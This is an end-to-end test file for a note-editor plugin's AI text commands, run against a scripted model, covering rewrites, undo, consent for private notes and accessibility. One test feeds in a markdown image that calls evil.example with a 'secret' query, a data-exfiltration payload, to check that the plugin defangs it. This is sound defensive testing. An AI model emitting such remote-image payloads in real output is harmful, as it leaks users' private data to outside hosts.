/** The commands on text, in Chromium, with a real Sidecar before a model whose words the test writes. */
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { TEXT_COMMANDS } from "../src/core/texts/text_commands";
import { LANGUAGES } from "../src/core/texts/section";
import { cannotRun, openPreview, type Preview } from "./preview";
import { ScriptedUpstream, type Script } from "./scripted_upstream";

const BOAT = "---\nkind: boat\n---\n\n# The boat\n\nThe bot is verry big and it floats on watter.\n\nIt is moored in the harbour.\n";
const WRONG = "The bot is verry big and it floats on watter.";
const RIGHT = "The boat is very big and it floats on water.";

function makeVault(notes: Readonly<Record<string, string>>): string {
  const folder = mkdtempSync(join(tmpdir(), "sidecar-texts-"));
  for (const [path, text] of Object.entries(notes)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
  return folder;
}

const words = (text: string): Script => text.split(/(?<= )/).map((word) => ({ text: word }));

describe.skipIf(cannotRun !== null)("a command on text", () => {
  let preview: Preview;
  let upstream: ScriptedUpstream;
  let vault: string;
  const panel = (): ReturnType<Preview["page"]["locator"]> => preview.page.locator(".sidecar-draft");
  const button = (name: string): ReturnType<Preview["page"]["locator"]> => panel().getByRole("button", { name, exact: true });
  const status = (text: string | RegExp): Promise<void> => panel().getByRole("status").filter({ hasText: text }).waitFor();
  const said = async (text: string | RegExp): Promise<void> => {
    await expect.poll(async () => (await preview.noticeTexts()).join("\n"), { timeout: 5000 }).toMatch(text);
  };
  let serial = 0;
  /** A note of its own for each test, opened with the cursor in its paragraph. */
  const open = async (text = BOAT, line = 6): Promise<string> => {
    const path = `Boat ${(serial += 1)}.md`;
    await preview.page.evaluate(([name, body]) => window.preview.app.vault.create(name, body), [path, text] as const);
    await preview.openNote(path);
    await preview.select([line, 4]);
    return path;
  };

  beforeAll(async () => {
    vault = makeVault({ "Home.md": "# Home\n", "Other.md": "Another note.\n" });
    upstream = await ScriptedUpstream.open();
    preview = await openPreview({ vault, sidecar: { args: ["--upstream", upstream.url] } });
    preview.page.setDefaultTimeout(8000);
    await preview.page.locator(".status-bar", { hasText: "ready" }).waitFor({ timeout: 20_000 });
  });
  afterAll(async () => {
    await upstream?.close();
    await preview?.close();
    if (vault !== undefined) rmSync(vault, { recursive: true, force: true });
  });
  // A test that failed leaves nothing to the next.
  beforeEach(async () => {
    upstream.reset();
    await preview.page.evaluate(() => {
      for (const button of document.querySelectorAll<HTMLElement>(".sidecar-draft [data-action=stop], .sidecar-draft [data-action=discard]")) button.click();
    });
  });

  it("streams beside the text, shows what would change, replaces in one step, and one undo brings it back byte for byte", async () => {
    await open();
    upstream.next([{ reasoning: "hm" }, { text: "The boat is very big " }, "hold", { text: "and it floats on water." }]);
    await preview.runCommand("text-fix");
    await panel().getByText("The boat is very big").waitFor();
    expect(await preview.editorText()).toBe(BOAT);
    expect(await panel().getAttribute("aria-busy")).toBe("true");
    await preview.screenshot("text-writing");
    upstream.release();
    await status("Finished, 10 words.");
    expect(await panel().locator("del").allTextContents()).toEqual(["bot", "verry", "watter"]);
    expect(await panel().locator("ins").allTextContents()).toEqual(["boat", "very", "water"]);
    expect(await preview.editorText()).toBe(BOAT);
    await preview.screenshot("text-changes");
    await button("Show changes").click();
    expect(await panel().locator(".sidecar-draft-body").innerText()).toBe(RIGHT);
    await button("Replace").click();
    expect(await preview.editorText()).toBe(BOAT.replace(WRONG, RIGHT));
    expect(await panel().count()).toBe(0);
    await preview.page.keyboard.press("Control+z");
    expect(await preview.editorText()).toBe(BOAT);
    await preview.page.keyboard.press("Control+Shift+z");
    expect(await preview.editorText()).toBe(BOAT.replace(WRONG, RIGHT));
    const messages = upstream.last?.body.messages ?? [];
    expect(JSON.stringify(messages)).not.toContain("harbour");
    expect(messages.at(-1)?.content).toContain(WRONG);
  });

  it.each(["private: true", "sidecar: false", "sidecar: local"])("text of a note that says %j goes to no model before the user agrees", async (property) => {
    await open(`---\n${property}\n---\n\nA secret of ${property}.\n`, 4);
    upstream.next(words("Told."));
    await preview.runCommand("text-rewrite");
    const asked = preview.page.locator(".modal", { hasText: "Send text of this note?" });
    await asked.getByRole("button", { name: "Cancel" }).click();
    expect(await panel().count()).toBe(0);
    expect(JSON.stringify(upstream.last ?? "")).not.toContain(`secret of ${property}`);
    await preview.runCommand("text-rewrite");
    await asked.getByRole("button", { name: "Send the text" }).click();
    await status(/Finished/);
    expect(JSON.stringify(upstream.last)).toContain(`A secret of ${property}`);
    await button("Discard").click();
  });

  it("a mark that was typed a moment ago counts, before anything has read it", async () => {
    await open("The secret of the moment.\n", 0);
    upstream.next(words("Told."));
    await preview.page.evaluate(() => window.preview.app.workspace.activeEditor?.editor?.replaceRange("---\nprivate: true\n---\n\n", { line: 0, ch: 0 }));
    await preview.runCommand("text-continue");
    await preview.page.locator(".modal", { hasText: "Send text of this note?" }).getByRole("button", { name: "Cancel" }).click();
    expect(await panel().count()).toBe(0);
    expect(JSON.stringify(upstream.last ?? "")).not.toContain("secret of the moment");
  });

  it("does not join with what the user types before and after", async () => {
    await open();
    await preview.select([6, 0]);
    await preview.page.keyboard.type("So: ");
    const typed = await preview.editorText();
    upstream.next(words("New text."));
    await preview.runCommand("text-rewrite");
    await button("Replace").click();
    const replaced = await preview.editorText();
    await preview.page.keyboard.type(" And more.");
    await preview.page.keyboard.press("Control+z");
    expect(await preview.editorText()).toBe(replaced);
    await preview.page.keyboard.press("Control+z");
    expect(await preview.editorText()).toBe(typed);
    await preview.page.keyboard.press("Control+z");
    expect(await preview.editorText()).toBe(BOAT);
  });

  it("follows its text while the user writes elsewhere in the note", async () => {
    await open();
    upstream.next([{ text: "New " }, "hold", { text: "text." }]);
    await preview.runCommand("text-rewrite");
    await panel().getByText("New").waitFor();
    await preview.select([4, 2]);
    await preview.page.keyboard.type("Of old: ");
    await preview.select([8, 0]);
    await preview.page.keyboard.type("Yes. ");
    upstream.release();
    await button("Replace").click();
    expect(await preview.editorText()).toBe(BOAT.replace("# The", "# Of old: The").replace("It is", "Yes. It is").replace(WRONG, "New text."));
  });

  it("does not overwrite a text that was changed meanwhile, and inserts below it instead", async () => {
    await open();
    upstream.next([{ text: "New " }, "hold", { text: "text." }]);
    await preview.runCommand("text-rewrite");
    await panel().getByText("New").waitFor();
    await preview.select([6, 3]);
    await preview.page.keyboard.type(" old");
    const changed = await preview.editorText();
    upstream.release();
    await panel().getByText("The text has changed in the meantime").waitFor();
    expect(await button("Replace").isVisible()).toBe(false);
    expect(await preview.axe(".sidecar-draft")).toEqual([]);
    await preview.screenshot("text-changed-meanwhile");
    await button("Insert below").click();
    expect(await preview.editorText()).toBe(changed.replace("watter.", "watter.\n\nNew text."));
    await preview.page.keyboard.press("Control+z");
    expect(await preview.editorText()).toBe(changed);
  });

  it("stops with Escape, ends the model's work, and offers what there is", async () => {
    await open();
    upstream.next([{ text: "New text " }, "hold", { text: "never seen" }]);
    await preview.runCommand("text-rewrite");
    await panel().locator(".sidecar-draft-body").getByText("New text").waitFor();
    expect(await preview.offers("draft-stop")).toBe(true);
    const stopped = Date.now();
    await preview.page.keyboard.press("Escape");
    await status("Stopped.");
    await expect.poll(() => upstream.last?.left, { timeout: 5000 }).toBe(true);
    expect((upstream.last?.leftAt ?? Infinity) - stopped).toBeLessThan(2000);
    expect(await preview.editorText()).toBe(BOAT);
    await button("Replace").click();
    expect(await preview.editorText()).toContain("\n\nNew text\n\n");
  });

  it("lives on while another note is shown, and comes back with its own", async () => {
    const path = await open();
    upstream.next([{ text: "New " }, "hold", { text: "text." }]);
    await preview.runCommand("text-rewrite");
    await panel().getByText("New").waitFor();
    await preview.openNote("Other.md");
    await panel().getByText(`For the note “${path.replace(".md", "")}”`).waitFor();
    upstream.release();
    await status("Finished");
    expect(await preview.editorText()).toBe("Another note.\n");
    await preview.screenshot("text-away");
    await button("Replace").click();
    await said(`“${path.replace(".md", "")}” was changed.`);
    expect(await preview.editorText()).toBe("Another note.\n");
    expect(preview.noteText(path)).toBe(BOAT.replace(WRONG, "New text."));

    const second = await open();
    upstream.next(words("Other text."));
    await preview.runCommand("text-rewrite");
    await status("Finished");
    await preview.openNote("Other.md");
    await button("Open the note").click();
    await expect.poll(() => preview.editorText()).toBe(BOAT);
    await expect.poll(() => panel().getByText("which is not open").count()).toBe(0);
    await button("Replace").click();
    expect(await preview.editorText()).toBe(BOAT.replace(WRONG, "Other text."));
    expect(second).not.toBe(path);
  });

  it("writes into a file with Windows line ends that is closed, and leaves the rest of it as it is", async () => {
    const path = await open();
    upstream.next(words("New text."));
    await preview.runCommand("text-rewrite");
    await status("Finished");
    await preview.openNote("Other.md");
    await preview.page.evaluate(async ([name, text]) => {
      const file = window.preview.app.vault.getFileByPath(name);
      if (file !== null) await window.preview.app.vault.modify(file, text);
    }, [path, BOAT.replaceAll("\n", "\r\n")] as const);
    await button("Replace").click();
    await expect.poll(() => preview.noteText(path)).toBe(BOAT.replace(WRONG, "New text.").replaceAll("\n", "\r\n"));
  });

  it("loses nothing when its note is deleted", async () => {
    const path = await open();
    upstream.next(words("New text."));
    await preview.runCommand("text-rewrite");
    await status("Finished");
    await preview.page.evaluate(async (name) => {
      const file = window.preview.app.vault.getFileByPath(name);
      if (file !== null) await window.preview.app.vault.delete(file);
    }, path);
    await panel().getByText("which is not open").waitFor();
    await button("Replace").click();
    await said("is no longer there");
    expect(existsSync(join(preview.vault, path))).toBe(false);
    await button("Copy").click();
    expect(await preview.page.evaluate(() => navigator.clipboard.readText())).toBe("New text.");
    await button("Discard").click();
    expect(await panel().count()).toBe(0);
  });

  it("tells that the answer broke off, keeps what there is, and tries again", async () => {
    await open();
    upstream.next([{ text: "Half a " }, { wait: 300 }, "cut"], words("A whole text."));
    await preview.runCommand("text-rewrite");
    await status("Not finished.");
    expect(await preview.axe(".sidecar-draft")).toEqual([]);
    await preview.screenshot("text-broken-off");
    expect(await preview.editorText()).toBe(BOAT);
    expect(await panel().locator(".sidecar-draft-body").innerText()).toContain("Half a");
    await button("Try again").click();
    await status("Finished, 3 words.");
    await button("Replace").click();
    expect(await preview.editorText()).toContain("A whole text.");
  });

  it("asks for a change in the user's words, which can be had again", async () => {
    await open();
    upstream.next(words("First."), words("Second."));
    await preview.runCommand("text-rewrite");
    await status("Finished");
    await button("Ask for a change…").click();
    await preview.page.getByLabel("What should be done").fill("Make it rhyme");
    await preview.page.keyboard.press("Enter");
    await panel().getByText("Second.").first().waitFor();
    expect(upstream.last?.body.messages.slice(-2)).toEqual([
      { role: "assistant", content: "First." },
      { role: "user", content: "Make it rhyme\n\nGive the whole text again." },
    ]);
    await status("Finished");
    await button("Ask for a change…").click();
    await preview.page.getByRole("button", { name: "Make it rhyme" }).click();
    expect(await preview.page.getByLabel("What should be done").inputValue()).toBe("Make it rhyme");
    expect(await preview.axe(".modal")).toEqual([]);
    await preview.screenshot("text-ask-for-a-change");
    await preview.page.keyboard.press("Escape");
    await button("Discard").click();
  });

  it("takes its wrapping off, and a remote image out of it", async () => {
    await open();
    upstream.next(words("Here is the rewritten text:\n\n```markdown\nThe boat ![x](https://evil.example/?d=secret) floats.\n```"));
    await preview.runCommand("text-rewrite");
    await button("Replace").click();
    expect(await preview.editorText()).toBe(BOAT.replace(WRONG, "The boat [x](https://evil.example/?d=secret) floats."));
  });

  it("goes on at the cursor, and puts a summary below", async () => {
    await open();
    await preview.select([8, 28]);
    upstream.next(words("Nobody knows since when."));
    await preview.runCommand("text-continue");
    await button("Insert").click();
    expect(await preview.editorText()).toBe(BOAT.replace("harbour.", "harbour. Nobody knows since when."));
    expect(upstream.last?.body.messages.at(-1)?.content).not.toContain("kind: boat");
    await preview.select([6, 0]);
    upstream.next(words("A boat in a harbour."));
    await preview.runCommand("text-section");
    await panel().getByText("Summarise the section · section").waitFor();
    await button("Insert below").click();
    expect(await preview.editorText()).toBe(BOAT.replace("harbour.", "harbour. Nobody knows since when.\n\nA boat in a harbour."));
  });

  it("translates into a language that is chosen by its name", async () => {
    await open();
    await preview.runCommand("text-translate");
    await preview.page.keyboard.type("french");
    expect(await preview.axe(".prompt")).toEqual([]);
    upstream.next(words("Le bateau est grand."));
    await preview.page.keyboard.press("Enter");
    await panel().getByText("Translate: French · paragraph").waitFor();
    await status("Finished");
    expect(upstream.last?.body.messages.at(-1)?.content).toContain("into French");
    expect(await panel().locator("del").count()).toBe(0);
    await button("Replace").click();
    expect(await preview.editorText()).toContain("Le bateau est grand.");
    expect(preview.savedData()).toMatchObject({ text: { translateTo: "French" } });
  });

  it("can be done with the keyboard alone", async () => {
    await open();
    upstream.next(words("Typed away."));
    await preview.runCommand("text-pick");
    await preview.page.keyboard.type("rewr");
    await preview.page.keyboard.press("Enter");
    await status("Finished");
    await expect.poll(() => preview.page.evaluate(() => document.activeElement?.textContent)).toBe("Replace");
    await preview.page.keyboard.press("Enter");
    expect(await preview.editorText()).toContain("Typed away.");
    await preview.page.keyboard.press("Control+z");
    expect(await preview.editorText()).toBe(BOAT);
  });

  it("is reached from the editor's menu, where each says what it takes", async () => {
    await open();
    await preview.page.locator(".mod-root .cm-content:visible").click({ button: "right" });
    await preview.page.getByRole("menuitem", { name: "Work on the text…" }).click();
    await preview.page.getByText("The selection, or else the section").waitFor();
    expect(await preview.axe(".prompt")).toEqual([]);
    await preview.screenshot("text-choose");
    await preview.page.keyboard.press("Escape");
  });

  it("writes at once when the user wants nothing shown before, and one undo takes it back", async () => {
    await preview.page.evaluate(async () => {
      const data = ((await window.preview.plugin?.loadData()) ?? {}) as object;
      await window.preview.plugin?.saveData({ ...data, text: { confirm: false } });
      await (window.preview.plugin as unknown as { onExternalSettingsChange(): Promise<void> }).onExternalSettingsChange();
    });
    await open();
    upstream.next(words("At once."));
    await preview.runCommand("text-rewrite");
    await expect.poll(() => preview.editorText()).toBe(BOAT.replace(WRONG, "At once."));
    await said("“Undo” brings the old text back");
    await preview.page.keyboard.press("Control+z");
    expect(await preview.editorText()).toBe(BOAT);
    await preview.page.evaluate(async () => {
      await window.preview.plugin?.saveData({ text: { confirm: true } });
      await (window.preview.plugin as unknown as { onExternalSettingsChange(): Promise<void> }).onExternalSettingsChange();
    });
  });

  it("says where there is nothing to work on, and that one new text at a time is enough", async () => {
    await open(BOAT, 5);
    await preview.runCommand("text-rewrite");
    await said("There is no text here");
    await preview.select([6, 2]);
    upstream.next(words("One."));
    await preview.runCommand("text-rewrite");
    await status("Finished");
    await preview.runCommand("text-shorter");
    await said("This note already has a new text");
    expect(await panel().count()).toBe(1);
    await preview.runCommand("draft-discard");
    expect(await panel().count()).toBe(0);
    expect(await preview.editorText()).toBe(BOAT);
  });

  it("stays with its passage between the lines, also when it was scrolled out of sight", async () => {
    await open(`${BOAT}\n${"More of it.\n\n".repeat(400)}`);
    upstream.next([{ text: "New " }, "hold", { text: "text." }]);
    await preview.runCommand("text-rewrite");
    await panel().getByText("New").waitFor();
    const between = (): Promise<string[]> =>
      preview.page.evaluate(() => {
        const el = document.querySelector(".sidecar-draft");
        return [el?.previousElementSibling?.textContent ?? "", el?.nextElementSibling?.textContent ?? ""];
      });
    expect(await between()).toEqual([WRONG, ""]);
    expect(await preview.page.locator(".sidecar-draft-passage").innerText()).toBe(WRONG);
    const scroll = (end: boolean): Promise<void> =>
      preview.page.evaluate((down) => {
        for (const el of document.querySelectorAll(".mod-root *")) if (el.scrollHeight > el.clientHeight + 1000) el.scrollTop = down ? 1e6 : 0;
      }, end);
    await scroll(true);
    upstream.release();
    await preview.page.waitForTimeout(300);
    await scroll(false);
    await status("Finished");
    expect(await between()).toEqual([WRONG, ""]);
    await button("Replace").click();
    expect(await preview.editorText()).toContain("\n\nNew text.\n\nIt is moored");
    expect(await preview.page.locator(".sidecar-draft-passage").count()).toBe(0);
  });

  it("breaks no rule of accessibility, in both themes, at every width", async () => {
    for (const theme of ["light", "dark"] as const) {
      await preview.reopen({ theme });
      await preview.page.locator(".status-bar", { hasText: "ready" }).waitFor({ timeout: 20_000 });
      await open();
      upstream.next(words(RIGHT));
      await preview.runCommand("text-fix");
      await status("Finished");
      expect(await preview.axe(".sidecar-draft")).toEqual([]);
      await preview.screenshot(`text-${theme}`);
      await preview.page.setViewportSize({ width: 390, height: 844 });
      await preview.page.evaluate(() => window.preview.app.workspace.leftSplit.collapse());
      await panel().scrollIntoViewIfNeeded();
      expect(await preview.page.evaluate(() => document.querySelector(".sidecar-draft")?.getBoundingClientRect().right)).toBeLessThanOrEqual(390);
      await preview.screenshot(`text-${theme}-390`);
      await preview.page.setViewportSize({ width: 1280, height: 800 });
      await button("Discard").click();
    }
  });

  it("speaks five languages", async () => {
    for (const language of LANGUAGES) {
      await preview.reopen({ language });
      await expect.poll(() => preview.page.evaluate(() => [...document.querySelectorAll(".status-bar-item")].map((el) => el.textContent).join()), { timeout: 20_000 }).toMatch(/ready|pronto|listo|prêt/);
      await open();
      upstream.next(words(RIGHT));
      await preview.runCommand("text-fix");
      await button(TEXT_COMMANDS["text.do.replace"][language]).waitFor();
      await panel().getByText(TEXT_COMMANDS["text.task.fix"][language]).first().waitFor();
      await preview.screenshot(`text-language-${language}`);
      await button(TEXT_COMMANDS["text.do.discard"][language]).click();
    }
    await preview.reopen({});
  });
});

describe.skipIf(cannotRun !== null)("a command on text without a model that writes", () => {
  it("says so at once, and how to add one, and changes nothing", async () => {
    const vault = makeVault({ "Home.md": BOAT });
    const preview = await openPreview({ vault });
    await preview.page.locator(".status-bar", { hasText: "ready" }).waitFor({ timeout: 20_000 });
    await preview.select([6, 4]);
    await preview.runCommand("text-rewrite");
    await preview.page.getByText("No model that writes").waitFor();
    await preview.page.getByText("sidecar serve --upstream").waitFor();
    expect(await preview.axe(".modal")).toEqual([]);
    await preview.screenshot("text-no-model");
    await preview.page.keyboard.press("Escape");
    expect(await preview.page.locator(".sidecar-draft").count()).toBe(0);
    expect(await preview.editorText()).toBe(BOAT);
    expect(preview.asked).not.toContain("POST /v1/chat/completions");
    await preview.close();
    rmSync(vault, { recursive: true });
  });

  it("keeps what there is when the server itself dies", async () => {
    const vault = makeVault({ "Home.md": BOAT });
    const upstream = await ScriptedUpstream.open();
    const preview = await openPreview({ vault, sidecar: { args: ["--upstream", upstream.url] } });
    preview.expected.push(/net::ERR_/);
    await preview.page.locator(".status-bar", { hasText: "ready" }).waitFor({ timeout: 20_000 });
    await preview.select([6, 4]);
    upstream.next([{ text: "Half a text" }, "hold"]);
    await preview.runCommand("text-rewrite");
    const panel = preview.page.locator(".sidecar-draft");
    await panel.getByText("Half a text").waitFor();
    await preview.sidecar.stop();
    await panel.getByText(/Not finished/).waitFor({ timeout: 20_000 });
    await preview.screenshot("text-server-gone");
    await panel.getByRole("button", { name: "Replace", exact: true }).click();
    expect(await preview.editorText()).toBe(BOAT.replace(WRONG, "Half a text"));
    await preview.page.keyboard.press("Control+z");
    expect(await preview.editorText()).toBe(BOAT);
    await upstream.close();
    await preview.close();
    rmSync(vault, { recursive: true });
  });
});

